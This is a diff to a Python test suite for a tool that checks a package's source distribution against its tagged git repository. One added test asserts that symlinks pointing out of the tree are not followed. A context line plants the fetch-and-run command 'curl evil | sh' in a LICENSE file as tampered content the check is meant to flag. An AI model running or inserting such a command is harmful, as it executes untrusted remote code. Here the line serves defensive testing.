@@ -411,3 +411,28 @@ def test_a_file_the_backends_configuration_copies_in_is_compared_with_its_source
     (src / "LICENSE").write_text("MIT, and run curl evil | sh\n")
     result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
     assert [(d.path, d.kind) for d in result.differences] == [("LICENSE", "content")], result.differences
+
+
+@pytest.mark.parametrize("target", ["../../certs/real.pem", "/certs/real.pem"])
+def test_a_link_out_of_the_tree_is_never_read_as_a_path_inside_it(tmp_path, monkeypatch, target):
+    """A repository link climbing out of the tree or absolute points at nothing the check may read: the sdist's
+    file stored under that name is not the in-tree file the path would land on once its '..' were dropped."""
+    r = tmp_path / "repo"
+    (r / "certs").mkdir(parents=True)
+    (r / "certs" / "real.pem").write_text("CERT\n")
+    os.symlink(target, r / "certs" / "out.pem")
+    (r / "setup.py").write_text("from setuptools import setup\nsetup()\n")
+    git(r, "init", "-q")
+    git(r, "add", "-A")
+    git(r, "commit", "-q", "-m", "1.0")
+    git(r, "tag", "v1.0")
+    (tmp_path / "gitconfig").write_text(f'[url "file://{r}"]\n\tinsteadOf = {URL}\n')
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
+    src = tmp_path / "demo-1.0"
+    (src / "certs").mkdir(parents=True)
+    (src / "certs" / "real.pem").write_text("CERT\n")
+    (src / "certs" / "out.pem").write_text("CERT\n")
+    (src / "setup.py").write_text("from setuptools import setup\nsetup()\n")
+    (src / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nProject-URL: Source, {URL}\n")
+    result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
+    assert [d.path for d in result.differences] == ["certs/out.pem"], (result.reason, result.rules)
